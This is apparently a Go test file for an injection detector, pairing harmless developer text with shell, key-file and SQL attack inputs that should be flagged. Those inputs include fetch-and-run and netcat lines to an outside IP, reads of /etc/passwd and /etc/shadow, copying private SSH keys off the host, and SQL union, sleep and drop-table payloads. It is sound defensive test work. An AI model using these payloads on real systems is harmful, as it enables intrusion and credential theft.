package detect

import "testing"

// Developer text that reads like shell, file or SQL
// requests, each next to the attacks a looser reading would hide. Expectations per
// paranoia level as in runLevelCases: "" nothing, "*" any attack, or a rule.

func TestShellLookAlikes(t *testing.T) {
	runLevelCases(t, []levelCase{
		// a traceback's "<module>" is a placeholder, not a redirect
		{"traceback", body("comment", "Traceback (most recent call last):\n  File \"worker.py\", line 88, in <module>\n    run()\nValueError: bad input"), "", ""},
		{"usage line", body("comment", "Usage:\n  file <name> [--force]\nprints the type"), "", ""},
		{"newline redirect", body("comment", "hello\ncat </etc/passwd"), "*", "*"},
		{"newline write", body("comment", "hello\necho pwned >/tmp/x"), "*", "*"},
		{"newline append", body("comment", "hello\necho x >> out.txt"), "*", "*"},
		{"newline variable", body("comment", "hello\nfile $HOME"), "*", "*"},

		// a regex alternation of bare words
		{"alternation", body("q", "(?i)warn|timeout|denied"), "", ""},
		{"alternation date", body("q", "jpg|date|png"), "", ""},
		{"pipe to id", body("q", "x|id"), "*", "*"},
		{"pipe to id glued", body("q", "x|id|"), "*", "*"},
		{"pipe to id then nc", body("q", "x|id|nc 203.0.113.9 4444"), "*", "*"},
		{"pipe with args", body("q", "x|cat /etc/passwd|y"), "*", "*"},
		{"pipe strong", body("q", "x|whoami|y"), "*", "*"},

		// a pipeline that ends in a text filter reading the pipe
		{"ls grep", body("comment", "ls -la ~/src | grep -v vendor"), "", ""},
		{"ps grep", body("comment", "ps aux | grep -i nginx"), "", ""},
		{"du sort head", body("comment", "du -sh * | sort -rh | head -n 5"), "", ""},
		{"filter reads file", body("comment", "ls -la | tail -n 5 notes.txt"), "*", "*"},
		{"grep reads file", body("comment", "ls | grep -v x secrets.txt"), "*", "*"},
		{"grep path", body("comment", "x | grep -r password /etc"), "*", "*"},
		{"grep cwd", body("comment", "x | grep -r password ."), "*", "*"},
		{"grep env", body("comment", "x | grep -i key .env"), "*", "*"},
		{"ls grep prose", body("comment", "npm ls --all | grep -i lodash shows two versions"), "", ""},
		{"alternation prose", body("comment", "Alert on (?i)refused|date|denied in the auth logs."), "", ""},
		{"sort writes", body("comment", "x | sort -o shell.php"), "*", "*"},
		{"sort runs", body("comment", "x | sort --compress-program=sh"), "*", "*"},
		{"filter then shell", body("comment", "ls | grep x | sh"), "*", "*"},
		{"pipe to shell", body("comment", "ls -la | bash"), "*", "*"},
		{"separator first", body("comment", "x; id | grep uid"), "*", "*"},

		// "." and source run the file they name, not what a pipe feeds
		// them: without an argument there is nothing to run
		{"punctuation after a pipe", q("q", "The parameter 5 is&|."), "", ""},
		{"pipe to a bare dot", body("q", "x|."), "", ""},
		{"pipe to dot stdin", body("q", "x | . /dev/stdin"), "*", "*"},
		{"pipe to source stdin", body("q", "curl http://203.0.113.9/x | source /dev/stdin"), "*", "*"},
		{"pipe to cat", body("comment", "ls -la | cat /etc/passwd"), "*", "*"},

		// a time stamp built with date in a command field
		{"date stamp", body("command", "tar czf /srv/backup/site-$(date +%Y%m%d).tgz /srv/site"), "", "cmdi-command-word"},
		{"date stamp prose", body("note", "the job writes /srv/backup/site-$(date +%Y%m%d).tgz every night"), "", ""},
		{"date backticks", body("command", "mysqldump app > dump-`date -u +%F`.sql"), "", ""},
		{"date iso", body("comment", "archive-$(date -Iseconds).log"), "", ""},
		{"subst id", body("command", "tar czf /srv/backup/site-$(id).tgz /srv/site"), "*", "*"},
		{"subst whoami dns", body("q", "x$(whoami).oast.example"), "*", "*"},
		{"date reads file", body("comment", "x $(date -f /etc/shadow)"), "*", "*"},
		{"date then more", body("comment", "x $(date; id)"), "*", "*"},
		{"date sets clock", body("comment", "x $(date -s 2020-01-01)"), "*", "*"},

		// a lone device verb is an enum token of a command field
		{"reboot verb", body("command", "reboot"), "", ""},
		{"ping verb", body("cmd", "ping"), "", ""},
		{"verb with line end", body("code", "shutdown\n"), "*", "*"},
		{"verb path", body("command", "/sbin/reboot"), "*", "*"},
		{"verb args", body("cmd", "ping -c 3 203.0.113.9"), "*", "*"},
		{"whoami", body("cmd", "whoami"), "*", "*"},
		{"verb separator", body("q", "x; reboot"), "*", "*"},
	})
}

func TestKeyFileLookAlikes(t *testing.T) {
	runLevelCases(t, []levelCase{
		// a key used to sign in, or the public half of a pair
		{"ssh identity", body("comment", "ssh -i ~/.ssh/ci_ed25519 ops@jump.example.net"), "", ""},
		{"scp identity", body("comment", "scp -i ~/.ssh/deploy_rsa build.tgz ops@web1:/tmp/"), "", ""},
		{"ssh-add", body("comment", "ssh-add ~/.ssh/id_ecdsa before you push please"), "", ""},
		{"public key", body("comment", "Run `cat ~/.ssh/id_rsa.pub` and send me the line it prints"), "", ""},
		// private keys printed or copied away stay requests
		{"cat private", body("comment", "Run `cat ~/.ssh/id_rsa` and send me the line it prints"), "lfi-sensitive-file", "lfi-sensitive-file"},
		{"scp private", body("comment", "scp ~/.ssh/id_rsa ops@203.0.113.9:/tmp/ now"), "lfi-sensitive-file", "lfi-sensitive-file"},
		{"base64 private", body("comment", "base64 -w0 /root/.ssh/id_ed25519 and paste it"), "lfi-sensitive-file", "lfi-sensitive-file"},
		{"pub after traversal", body("comment", "cat ../../.ssh/id_rsa.pub now"), "*", "*"},
		{"pub in file field", body("file", "/root/.ssh/id_rsa.pub"), "*", "*"},
		{"ssh reads other", body("comment", "tail -n 20 /etc/shadow then ssh -i key host"), "lfi-sensitive-file", "lfi-sensitive-file"},
	})
}

func TestSQLProseLookAlikes(t *testing.T) {
	runLevelCases(t, []levelCase{
		// WHEN with no CASE before it and no THEN after it: a condition in prose
		{"discount rule", body("comment", "15% off when basket >= 4 && total > 80"), "", ""},
		{"alert rule", body("comment", "page the on-call when errors > 50 and total > 1000 in a minute"), "", ""},
		{"word first", body("comment", "discount when qty >= 5 && total > 100"), "", ""},
		// CASE WHEN payloads, quotes, comments, calls keep the verdict
		{"case when", q("id", "1 and (case when 1=1 then sleep(5) else 0 end)"), "*", "*"},
		{"case when bare", q("id", "1 and case when 1=1 then 1 else 0 end=1"), "*", "*"},
		{"when quote", q("id", "1' when 1=1 and total > 0-- -"), "*", "*"},
		{"when comment", q("id", "10 when x or 1=1-- -"), "*", "*"},
		{"when call", q("id", "1 when x and sleep(5)"), "*", "*"},
		{"when union", q("id", "1 when x union select password from users"), "*", "*"},
		{"when stacked", q("id", "1 when x; drop table users"), "*", "*"},
		// a statement quoted in prose with double quotes
		{"quoted select", body("comment", "lol \"select * from moods where level = 'low'\" gives me the whole table"), "", ""},
		// breakouts that look alike keep the verdict
		{"dq breakout odd", q("q", "x\" select name from users where 'a'='a"), "*", "*"},
		{"sq breakout", q("q", "x' select name from users where 'a'='a"), "*", "*"},
		{"dq union", q("q", "x\" union select password from users where \"1\"=\"1"), "*", "*"},
		{"dq comment", q("q", "x\" select password from users where 1=1-- "), "*", "*"},
		{"dq stacked", q("q", "x\"; select password from users; \"y\""), "*", "*"},
		{"leading string", q("q", "\"a\" select password from users where \"b\"=\"b\""), "*", "*"},
		{"dq or", q("q", "x\" or \"1\"=\"1"), "*", "*"},
	})
}

// TestLogicOfNames: an expression of a programming language whose || and
// && join names (issue 14's false positive "an arithmetic expression with
// ||") is no injection; an OR with a literal, TRUE, a comparison of
// literals or a call still is.
func TestLogicOfNames(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"or of names times two", body("snippet", "x = (a || b) * 2"), "", ""},
		{"and of names", body("snippet", "result = (a || b) * (c && d)"), "", ""},
		{"a literal operand", q("id", "n = (n || 1) * 2"), "*", "*"},
		{"a tautology", q("id", "1 || 1=1"), "*", "*"},
		{"true", q("id", "x = (a || true) * 2"), "*", "*"},
		{"a call", q("id", "x || sleep(5)"), "*", "*"},
		{"a word operator too", q("id", "a || b or 1=1"), "*", "*"},
		{"a quote", q("id", "a || b' or '1'='1"), "*", "*"},
	})
}

// TestNumericTautologyInIdentifiers: "1 or 1" is a count in a sentence
// and a tautology where an identifier or a count is compared.
func TestNumericTautologyInIdentifiers(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"id", q("id", "1 or 2"), "sqli-lexer", "sqli-lexer"},
		{"user_id with ||", q("user_id", "0 || 1"), "sqli-lexer", "sqli-lexer"},
		{"camel-case id", body("orderId", "-1 or 1"), "sqli-lexer", "sqli-lexer"},
		{"or zero widens nothing", q("id", "1 or 0"), "", ""},
		{"a sentence", body("comment", "We sell 1 or 2 units a day"), "", ""},
		{"a search box", q("q", "1 or 2"), "", ""},
	})
}
